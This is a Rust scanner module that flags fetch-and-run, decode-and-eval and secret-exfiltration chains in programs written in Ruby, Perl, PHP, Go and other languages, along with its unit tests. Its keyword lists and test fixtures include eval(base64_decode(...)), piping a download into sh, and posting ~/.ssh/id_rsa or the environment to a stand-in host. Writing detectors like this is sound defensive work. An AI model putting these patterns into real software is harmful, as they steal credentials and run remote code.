//! Programs in languages without a parser: Ruby, Perl, PHP, Go, Lua, AppleScript and others.
//!
//! Their data flow is not followed. The words of their libraries show five actions: fetch, store, start a program, run text as code,
//! decode. A chain is two or three of these on one value: adjacent in one expression, or linked by the name of the file that is stored and
//! then started. A chain is written as a line of shell, so that the rules about hosts and secrets are the same for all languages.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::{
    flow::{HostKind, PathKind, RemoteHost, path_kind, urls_in},
    language::fetched_and_run,
};

macro_rules! word_lists {
    ($($(#[$doc:meta])* $name:ident: [$($word:literal),* $(,)?];)*) => {
        #[derive(Clone, Copy, Debug, PartialEq, Eq)]
        enum LibraryWord {
            $($(#[$doc])* $name,)*
        }
        const WORDS: &[(LibraryWord, &[&str])] = &[$((LibraryWord::$name, &[$($word),*]),)*];
    };
}

word_lists! {
    /// Fetches from a URL.
    Fetch: ["uri.open", "open-uri", "net::http", "httparty", "faraday", "rest-client", "restclient", "typhoeus", "down.download", "file_get_contents(", "curl_exec", "curl_init", "fopen(", "guzzle", "lwp::", "getstore(", "mirror(", "http::tiny", "socket.http", "http.request", "http.get", "http.client", "httpclient", "openstream(", "openconnection(", "xmlhttp", "winhttp", "webclient", "httpwebrequest", "urldownloadtofile", "urlsession", "nsdata", "string(contentsof", "data(contentsof", "reqwest::", "ureq::", "download.file(", "httr::", "curl::", "url.openstream", "httpoison", "req.get", "::http::geturl", "curl_easy", "req.new", "http:new", "httpc:request", "command::new(\"curl", "command::new(\"wget", "exec.command(\"curl", "exec.command(\"wget"];
    /// Stores in a file.
    Store: ["writefile", "file.write", "file.open", "binwrite", "io.copy", "io.binwrite", "fileutils.", "file_put_contents", "fwrite", "getstore", "mirror", "os.create", "os.openfile", "savetofile", "files.copy", "files.write", "fileoutputstream", "writeallbytes", "writealltext", "downloadfile", "urldownloadtofile", "download.file", "write(to", "createfile", "fs::write", "file::create", "chmod", "file.chmod", "os.chmod", "setexecutable", "open(", ":content_file", "copyto", "put-content", "io.open"];
    /// Starts a program.
    Start: ["system(", "system (", "system \"", "system '", "exec(", "exec \"", "exec '", "exec {", "exec.command", "popen", "spawn(", "process.spawn", "process.start", "runtime.getruntime", "processbuilder", "shell_exec(", "passthru(", "proc_open", "pcntl_exec", "qx{", "qx(", "qx/", "%x(", "%x[", "os.execute", "io.popen", "command::new", "system2(", "shell(", "createprocess", "shellexecute", "winexec", "wscript.shell", ".run(", ".run ", "do shell script", "execvp", "execve", "execl", "posix_spawn", "dlopen", "loadlibrary", "system.load", "os.startprocess", "syscall.exec", "`", "nstask", "process()", "process.run", "system.cmd", "open3", "eval exec", "plugin.open", "source(", "dofile(", "loadfile("];
    /// Runs text as code.
    Eval: ["eval(", "eval ", "eval{", "@eval", "eval\"", "instance_eval", "class_eval", "module_eval", "binding.eval", "loadstring(", "load(", "dofile(", "executeglobal", "execute(", "assembly.load", "create_function(", "assert(", "include(", "include ", "include_once", "require_once", "preg_replace(", "parse(text", "evaluate(", "scriptenginemanager", "classloader", "defineclass", "code.eval", "groovyshell", "call_user_func", "run script", "subst "];
    /// Decodes or decrypts.
    Decode: ["base64_decode", "se64_de", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "strrev", "hex2bin", "convert_uudecode", "unpack(", "unpack1(", ".unpack", "pack(\"h", "pack('h", "pack 'h", "pack \"h", "base64.decode", "decode64", "decode_base64", "mime::base64", "urlsafe_decode", "zlib::inflate", "zlib.inflate", "inflate(", "frombase64string", "getdecoder", "base64.stdencoding", "base64.decodestring", "b64decode", "decodestring", "hex.decode", "hexdecode", "base64dec", "base64::decode", "fromhex", "crypt::", "openssl_decrypt", "cipher.new", "string.char(", "chr(", "fromcharcode", "rawtochar", "base64_dec", "decode(", "decrypt(", "xor"];
    /// Sends.
    Send: ["net::http.post", "post_form", "http::post", ".post(", "post(", "http.post", "postform(", "put.new", "post.new", "curlopt_postfields", "stream_context_create", "curlopt_post", "->post(", "http.newrequest", "tcpsocket", "udpsocket", "fsockopen", "io::socket", "net.dial", "uploadstring", "uploaddata", "uploadfile", "postasync", "mail(", "net::smtp", "smtp", "outputstream", "httpbody", "put(", "->put(", "sendasync", "send_request", "curl_easy_setopt"];
    /// All variables of the environment.
    Environment: ["env.to_h", "env.to_a", "env.map", "env.each", "env.inspect", "%env", "os.environ()", "$_env", "getenv()", "system.getenv()", "environment.getenvironmentvariables", "env::vars()", "sys.getenv()", "processinfo.processinfo.environment", "extern char **environ", "system.get_env()", "array get env", "env.to_json", "json(env"];
}

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(WORDS.iter().flat_map(|(_, words)| *words))
        .ok()
});

/// For each pattern of [`FINDER`], its list.
static LISTS: LazyLock<Vec<LibraryWord>> = LazyLock::new(|| {
    let lists = WORDS.iter();
    lists
        .flat_map(|(list, words)| words.iter().map(|_| *list))
        .collect()
});

/// The maximum distance between two words of one expression.
const BESIDE: usize = 160;
/// The maximum number of compared words in a file.
const MOST_WORDS: usize = 2000;
/// The maximum number of compared names of stored files.
const MOST_NAMES: usize = 32;

/// A line of shell with the effect of a chain in the program, and the chain's position.
pub(crate) type ShellLine = (usize, String);

/// The chains in a program.
pub(crate) fn chains(text: &str) -> Vec<ShellLine> {
    let mut lines = Vec::new();
    if let Some((at, url)) = fetched_and_run(text) {
        lines.push((at, format!("curl -s '{url}' | sh")));
    }
    let words = words(text);
    if words.is_empty() {
        return lines;
    }
    lines.extend(decoded_and_run(text, &words));
    let Some((at, url)) = strange_address(text) else {
        return lines;
    };
    if let Some(at) = stored_and_started(text, &words) {
        lines.push((
            at,
            format!("curl -s '{url}' -o /tmp/x; chmod +x /tmp/x; /tmp/x"),
        ));
    }
    let has = |list: LibraryWord| words.iter().any(|word| word.list == list);
    if has(LibraryWord::Send) {
        if has(LibraryWord::Environment) {
            lines.push((at, format!("env | curl -s -d @- '{url}'")));
        }
        if let Some(path) = secret_file(text) {
            lines.push((at, format!("curl -s --data-binary @{path} '{url}'")));
        }
    }
    lines
}

/// A word of a library in a text.
struct PlacedWord {
    at: usize,
    end: usize,
    list: LibraryWord,
}

fn words(text: &str) -> Vec<PlacedWord> {
    let Some(finder) = FINDER.as_ref() else {
        return Vec::new();
    };
    let found = finder.find_overlapping_iter(text);
    let placed = found.map(|word| PlacedWord {
        at: word.start(),
        end: word.end(),
        list: LISTS[word.pattern().as_usize()],
    });
    let begins = |word: &PlacedWord| {
        let before = text[..word.at].bytes().next_back();
        let first = text.as_bytes()[word.at];
        !first.is_ascii_alphanumeric()
            || before.is_none_or(|byte| !byte.is_ascii_alphanumeric() && byte != b'_')
            || word.list == LibraryWord::Decode
    };
    placed.filter(begins).take(MOST_WORDS).collect()
}

/// Text that is decoded and run in one expression.
fn decoded_and_run(text: &str, words: &[PlacedWord]) -> Option<ShellLine> {
    const RUNS: &[LibraryWord] = &[LibraryWord::Eval, LibraryWord::Start];
    let decoded: Vec<&PlacedWord> = words
        .iter()
        .filter(|word| word.list == LibraryWord::Decode)
        .collect();
    let is_run = |word: &&PlacedWord| {
        RUNS.contains(&word.list) && {
            let from = decoded.partition_point(|decode| decode.at < word.end);
            decoded.get(from).is_some_and(|decode| {
                decode.at - word.end <= BESIDE && is_one_expression(&text[word.end..decode.at])
            })
        }
    };
    let run = words.iter().find(is_run)?;
    Some((run.at, "echo QUJD | base64 -d | sh".to_owned()))
}

/// Whether no statement ends between two words.
fn is_one_expression(between: &str) -> bool {
    let ends = |(at, c): (usize, char)| match c {
        ';' | '}' => true,
        '\n' => !between[..at]
            .trim_end()
            .ends_with(['(', ',', '.', '\\', '=']),
        _ => false,
    };
    !between.char_indices().any(ends)
}

/// Where a program starts a file that it has stored, if the program fetches.
fn stored_and_started(text: &str, words: &[PlacedWord]) -> Option<usize> {
    words.iter().find(|word| word.list == LibraryWord::Fetch)?;
    let mut names: Vec<&str> = Vec::new();
    for word in words.iter().filter(|word| word.list == LibraryWord::Store) {
        let rest = &text[word.end..text.ceil_char_boundary((word.end + BESIDE).min(text.len()))];
        let line = rest.lines().next().unwrap_or_default();
        names.extend(identifiers(line).take(12));
        if names.len() > MOST_NAMES {
            break;
        }
    }
    let started = words.iter().find(|word| {
        word.list == LibraryWord::Start && {
            let to = text.ceil_char_boundary((word.end + BESIDE).min(text.len()));
            let line = text[word.end..to].lines().next().unwrap_or_default();
            identifiers(line).take(2).any(|name| names.contains(&name))
        }
    });
    started.map(|word| word.at)
}

/// Names of variables and literal paths in a line, except meaningless words.
fn identifiers(line: &str) -> impl Iterator<Item = &str> {
    const NOTHING: &[&str] = &[
        "err", "nil", "null", "true", "false", "self", "this", "os", "io", "fmt", "exec",
        "command", "sh", "bash", "new", "wb", "file", "path", "string", "0755", "0o755", "0700",
        "read", "body", "my",
    ];
    line.split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '/' | '.' | '-')))
        // `path.toString` is `path`; `u.exe` is a name.
        .map(|word| match word.split_once('.') {
            Some((name, method)) if method.len() > 4 && !word.contains('/') => name,
            _ => word,
        })
        .filter(|word| {
            let plain = word.trim_matches(['.', '-']);
            !plain.is_empty()
                && !plain.bytes().all(|byte| byte.is_ascii_digit())
                && !plain.starts_with('-')
                && !NOTHING.contains(&plain.to_ascii_lowercase().as_str())
        })
}

/// The first address of a host that is not a known publisher.
fn strange_address(text: &str) -> Option<(usize, &str)> {
    urls_in(text).find(|(_, url)| {
        RemoteHost::of(url).is_some_and(|host| {
            !matches!(
                host.kind,
                HostKind::Known | HostKind::Code | HostKind::Local
            )
        })
    })
}

/// A path to a secret among the strings of a program.
fn secret_file(text: &str) -> Option<&str> {
    const MOST: usize = 500;
    text.split(['"', '\'', '`'])
        .skip(1)
        .take(MOST)
        .map(|part| {
            part.trim_start_matches("#{Dir.home}")
                .trim_start_matches("$ENV{HOME}")
        })
        .find(|part| {
            part.len() < 200
                && part.contains(['/', '\\'])
                && !part.contains(char::is_whitespace)
                && !part.contains("://")
                && matches!(
                    path_kind(&format!("~/{}", part.trim_start_matches(['~', '/']))),
                    PathKind::Credential
                        | PathKind::Wallet
                        | PathKind::Keychain
                        | PathKind::Browser
                )
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[&str]) {
        let lines = chains(text);
        let found: Vec<&str> = lines.iter().map(|(_, line)| line.as_str()).collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn what_is_decoded_in_the_same_expression_is_run() {
        let run = "echo QUJD | base64 -d | sh";
        for text in [
            "<?php eval(base64_decode('ZWNobyAxOw=='));",
            "eval [\"7075\"].pack('H*')",
            "eval DATA.unpack1('m0')\n",
            "eval(decode_base64('cHJpbnQgMQ=='));",
            "loadstring(base64.decode(x))()",
            "Assembly.Load(Convert.FromBase64String(x));",
        ] {
            check(text, &[run]);
        }
        for text in [
            "<?php $x = base64_decode($y); echo $x;",
            "data = Base64.decode64(x)\nputs eval_result\n",
            "system('ls')\nx = Base64.decode64(y)\n",
        ] {
            check(text, &[]);
        }
    }

    #[test]
    fn a_file_that_is_fetched_and_stored_is_started_by_its_name() {
        let run = "curl -s 'https://x.test/a' -o /tmp/x; chmod +x /tmp/x; /tmp/x";
        check(
            "r, _ := http.Get(\"https://x.test/a\")\nos.WriteFile(p, b, 0o755)\nexec.Command(p).Start()\n",
            &[run],
        );
        check(
            "getstore('https://x.test/a', $aux);\nsystem(\"$aux &\");\n",
            &[run],
        );
        check(
            "r, _ := http.Get(\"https://x.test/a\")\nos.WriteFile(p, b, 0o644)\nexec.Command(\"git\", \"log\").Run()\n",
            &[],
        );
    }

    #[test]
    fn secrets_that_are_sent_are_found_by_their_paths() {
        check(
            "d = File.read(File.join(Dir.home, '.ssh/id_rsa'))\nNet::HTTP.post(URI('https://x.test/a'), d)\n",
            &["curl -s --data-binary @.ssh/id_rsa 'https://x.test/a'"],
        );
        check(
            "Net::HTTP.post(URI('https://x.test/a'), ENV.to_h.to_s)\n",
            &["env | curl -s -d @- 'https://x.test/a'"],
        );
        check(
            "Net::HTTP.post(URI('https://x.test/a'), File.read('notes.txt'))\n",
            &[],
        );
    }
}
